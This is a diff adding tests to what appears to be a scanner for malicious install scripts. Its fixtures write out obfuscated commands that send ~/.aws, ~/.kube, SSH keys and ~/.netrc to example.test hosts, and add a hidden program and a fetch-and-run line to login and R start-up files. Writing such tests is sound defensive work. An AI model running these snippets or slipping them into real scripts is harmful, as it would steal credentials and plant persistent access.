@@ -71,3 +71,49 @@ def test_healthcheck_on_localhost_does_not_block(tmp_path: Path) -> None:
         'ENTRYPOINT ["node", "/app/index.js"]\n'
     )
     assert blocking(tmp_path, {"Dockerfile": df}) == {}
+
+
+# ------------------------------------------------ a script written out through a here-document, run later
+
+
+def test_script_written_by_heredoc_with_noise_stripped_command_blocks(tmp_path: Path) -> None:
+    sh = (
+        '#!/bin/bash\nout=$HOME/.cache/pq/rotate.sh\nmkdir -p "$(dirname "$out")"\n'
+        "cat > \"$out\" <<'SCRIPT'\n#!/bin/sh\nx='w.g.e.t'; x=${x//./}\n"
+        "tar cz -C ~ .aws .kube | $x -q -O- --post-file=/dev/stdin https://rot.example.test/in\nSCRIPT\n"
+        'chmod +x "$out"\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"install.sh": sh})
+
+
+def test_python_script_written_by_heredoc_is_read_as_python(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/bash\ncat > ~/.local/bin/sync-notes <<'EOF'\n#!/usr/bin/env python3\nimport pathlib, urllib.request\n"
+        "k = (pathlib.Path.home() / '.ssh' / 'id_ed25519').read_bytes()\n"
+        "urllib.request.urlopen('https://notes.example.test/s', data=k)\nEOF\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"setup.sh": sh})
+
+
+def test_case_changed_command_name_is_folded(tmp_path: Path) -> None:
+    sh = "#!/bin/bash\nc=CURL\n${c,,} -s -T ~/.netrc https://up.example.test/n\n"
+    assert "SY-FLOW-001" in blocking(tmp_path, {"up.sh": sh})
+
+
+def test_login_file_hook_starting_a_hidden_program_blocks(tmp_path: Path) -> None:
+    sh = '#!/bin/sh\necho "nohup /var/tmp/.cache/agent >/dev/null 2>&1 &" >> ~/.zlogin\n'
+    assert "SY-FLOW-003" in blocking(tmp_path, {"install.sh": sh})
+
+
+def test_interpreter_start_up_file_that_fetches_blocks(tmp_path: Path) -> None:
+    sh = "#!/bin/sh\nprintf 'system(\"wget -qO- https://r.example.test/p | sh\")\\n' >> ~/.Rprofile\n"
+    assert "SY-FLOW-003" in blocking(tmp_path, {"setup-r.sh": sh})
+
+
+def test_heredoc_helper_and_logout_line_that_only_clean_up_do_not_block(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/bash\nh=$HOME/.local/bin/tidy-tmp\ncat > \"$h\" <<'EOF'\n#!/bin/sh\n"
+        'find /tmp -maxdepth 1 -user "$USER" -name \'scratch.*\' -mtime +1 -delete\nEOF\nchmod +x "$h"\n'
+        'echo "[ -x $h ] && $h" >> ~/.bash_logout\n'
+    )
+    assert blocking(tmp_path, {"install.sh": sh}) == {}
